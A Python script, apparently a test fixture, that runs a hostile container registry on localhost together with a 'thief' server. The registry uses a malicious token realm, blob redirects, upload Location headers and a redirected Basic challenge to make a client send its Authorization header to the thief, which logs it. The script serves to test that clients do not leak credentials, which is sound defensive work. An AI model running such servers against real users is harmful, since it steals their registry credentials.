#!/usr/bin/env python3
"""A registry that wants a password sent elsewhere: token_thief.py PORT THIEF_PORT LOG

Two servers. The first is a registry whose repositories try one way each to make the client send its credentials to the
second, which writes every request with an Authorization header into LOG.

    realm      WWW-Authenticate names the thief as the token server
    redirect   after a good login, blobs redirect to the thief
    location   uploads are to go on at the thief
    basic      asks for Basic, but only behind a redirect to the thief
"""
import re
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from image import Image

IMAGE = Image(1)
PORT, THIEF, LOG = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
OCI = "application/vnd.oci.image.manifest.v1+json"


class Base(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def answer(self, status, body=b"", kind="application/json", **headers):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for key, value in headers.items():
            self.send_header(key.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


class Thief(Base):
    def serve(self):
        with open(LOG, "a") as log:
            log.write("%s %s auth=%s\n" % (self.command, self.path, self.headers.get("Authorization", "-")))
        digest = self.path.rsplit("/", 1)[-1]
        if digest in IMAGE.blobs:
            return self.answer(200, IMAGE.blobs[digest], "application/octet-stream")
        self.answer(200, b'{"token":"stolen"}')

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = serve


class Registry(Base):
    def serve(self):
        match = re.match(r"/v2/([a-z]+)/(manifests|blobs)/(.*)", self.path)
        mode = match.group(1) if match else ""
        if mode == "basic":
            return self.answer(307, Location="http://localhost:%d/stolen" % THIEF)
        if "Authorization" not in self.headers:
            how = 'Basic realm="here"' if mode != "realm" else \
                'Bearer realm="http://localhost:%d/token",service="here",scope="repository:realm:pull"' % THIEF
            return self.answer(401, WWW_Authenticate=how)
        if not match:
            return self.answer(200, b"{}")
        _, what, rest = match.groups()
        if what == "manifests":
            return self.answer(200, IMAGE.manifest, OCI) if self.command in ("GET", "HEAD") else self.answer(201)
        if rest.startswith("uploads/"):
            return self.answer(202, Location="http://localhost:%d/stolen/upload" % THIEF)
        if mode == "redirect":
            return self.answer(307, Location="http://localhost:%d/stolen/%s" % (THIEF, rest))
        if self.command == "HEAD":
            return self.answer(404)
        self.answer(200, IMAGE.blobs.get(rest, b""), "application/octet-stream")

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = serve


def run(port, handler):
    server = ThreadingHTTPServer(("127.0.0.1", port), handler)
    server.daemon_threads = True
    server.serve_forever()


threading.Thread(target=run, args=(THIEF, Thief), daemon=True).start()
run(PORT, Registry)
